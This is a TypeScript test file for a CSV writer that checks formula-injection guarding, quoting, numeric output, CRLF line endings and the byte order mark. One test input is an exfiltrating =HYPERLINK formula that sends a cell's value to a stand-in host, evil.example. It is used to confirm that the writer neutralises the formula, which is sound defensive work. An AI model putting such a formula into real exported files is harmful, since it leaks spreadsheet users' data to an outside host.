import { describe, expect, it } from 'vitest';
import { CSV_BOM, csvCell, csvLine, csvText } from './csv.ts';

describe('the one CSV writer', () => {
  it('neutralises text a spreadsheet would run as a formula, and quotes what CSV needs quoted', () => {
    expect(
      ['=1+1', '+1', '-1', '@SUM(A1)', '\tx', '\rx', 'plain', 'a,b', 'say "hi"', 'two\nlines', '=1+1\nx', null, undefined].map(csvCell),
    ).toEqual([
      "'=1+1",
      "'+1",
      "'-1",
      "'@SUM(A1)",
      "'\tx",
      `"'\rx"`,
      'plain',
      '"a,b"',
      '"say ""hi"""',
      '"two\nlines"',
      // A formula followed by a line break is still a formula (a pattern ending in `.*$` would miss it).
      `"'=1+1\nx"`,
      '',
      '',
    ]);
    expect(csvCell('=HYPERLINK("http://evil.example/?x="&A1;"open")')).toBe(`"'=HYPERLINK(""http://evil.example/?x=""&A1;""open"")"`);
  });

  it('writes numbers as numbers, negative ones included, and refuses one that is not finite', () => {
    expect([-250, 0, 1500, 0.25, -0].map(csvCell)).toEqual(['-250', '0', '1500', '0.25', '0']);
    // The same figure given as text is text, and guarded: numeric columns take numbers.
    expect(csvCell('-250')).toBe("'-250");
    expect(() => csvCell(Number.NaN)).toThrow(TypeError);
    expect(() => csvCell(Number.POSITIVE_INFINITY)).toThrow(TypeError);
  });

  it('ends every line in CRLF, guards the header too, and starts a file with the byte order mark when asked', () => {
    expect(csvLine(['a', 1, null])).toBe('a,1,\r\n');
    const rows = [
      ['=x', -250],
      ['ok', 3],
    ];
    expect(csvText(['name', '@points'], rows, { bom: true })).toBe(`${CSV_BOM}name,'@points\r\n'=x,-250\r\nok,3\r\n`);
    expect(csvText(['name'], [], { bom: false })).toBe('name\r\n');
  });
});
